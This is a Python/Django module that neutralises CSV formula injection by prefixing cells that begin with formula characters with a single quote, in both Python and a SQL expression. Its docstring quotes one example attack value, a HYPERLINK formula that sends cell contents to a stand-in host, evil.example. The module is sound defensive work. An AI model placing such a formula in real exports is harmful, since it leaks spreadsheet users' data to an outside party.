"""Formula injection: a cell that a spreadsheet would run as a formula is written as text.

A feed item titled `=HYPERLINK("http://evil.example/?d="&A1,"Open")` reaches the articles CSV with
no curator step; Excel, LibreOffice and Google Sheets run any cell that starts with = + - @, a tab
or a carriage return. As OWASP's CSV Injection page advises, such a cell is written with a single
quote (') in front, which spreadsheets read as "this cell is text" (and hide). A program reading
the CSV strips one leading quote from a cell that starts with a quote and one of those characters
to get the value back.

The same rule in Python (csv_blocks: the matrix, the data dictionary, every header and every row
written by Python) and in SQL (every text column, so that PostgreSQL's COPY writes it too), so both
backends give the same bytes.
"""

from __future__ import annotations

from django.db.models import Case, F, TextField, Value, When
from django.db.models.functions import Concat, Left, NullIf
from django.db.models.lookups import In

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
DICTIONARY_NOTE = (
    "A text cell that would start with =, +, -, @, a tab or a carriage return is written with a single "
    "quote (') in front, so that spreadsheet programs show it as text instead of running it as a formula "
    "(OWASP's advice on CSV injection); remove that one quote to get the stored value."
)


def neutralise(cell):
    """A cell as written: text that a spreadsheet would run gets the text mark; anything else as it is."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return TEXT_MARK + cell
    return cell


def neutralised_text(path: str):
    """A text field as an export cell: empty sent as NULL (see sql.py), formula starts marked as text."""
    field = F(path)
    return Case(
        When(In(Left(field, 1), list(FORMULA_STARTS)), then=Concat(Value(TEXT_MARK), field)),
        default=NullIf(field, Value("")),
        output_field=TextField(),
    )
